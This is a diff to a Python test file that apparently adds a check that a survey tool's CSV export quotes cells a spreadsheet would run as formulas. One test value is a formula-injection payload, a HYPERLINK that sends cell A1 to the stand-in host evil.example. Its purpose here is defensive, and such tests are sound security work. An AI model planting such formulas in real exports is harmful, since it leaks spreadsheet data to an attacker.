@@ -72,6 +72,19 @@ def test_list_exports_csv_for_a_spreadsheet(env, answered) -> None:
     assert table[0]["rating"] == "1" and table[0]["of"] == "5"
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(env, answered, store) -> None:
+    with store.transaction() as tx:
+        survey = tx.exec(select(Survey).where(Survey.comment == "Quick and friendly")).one()
+        survey.comment = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+        conversation = tx.get(Conversation, survey.conversation_id)
+        conversation.subject, conversation.tags = "+1 refund", ["@SUM(A1)"]
+    (row,) = [r for r in csv.DictReader(io.StringIO(gateway(env, "list", "--csv"))) if r["rating"] == "5"]
+    assert row["comment"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Details")'
+    assert (row["subject"], row["tags"], row["rated_via"]) == ("'+1 refund", "'@SUM(A1)", "web")
+    keys = [r["key"] for r in csv.DictReader(io.StringIO(gateway(env, "stats", "--csv"))) if r["group"] == "tag"]
+    assert "'@SUM(A1)" in keys and "@SUM(A1)" not in keys
+
+
 def test_stats_give_response_rate_csat_and_groups_but_agents_only_when_asked(env, answered) -> None:
     text = gateway(env, "stats")
     assert "surveys sent: 3 · answered: 2 (67%) · CSAT: 50% (1 of 2 satisfied)" in text
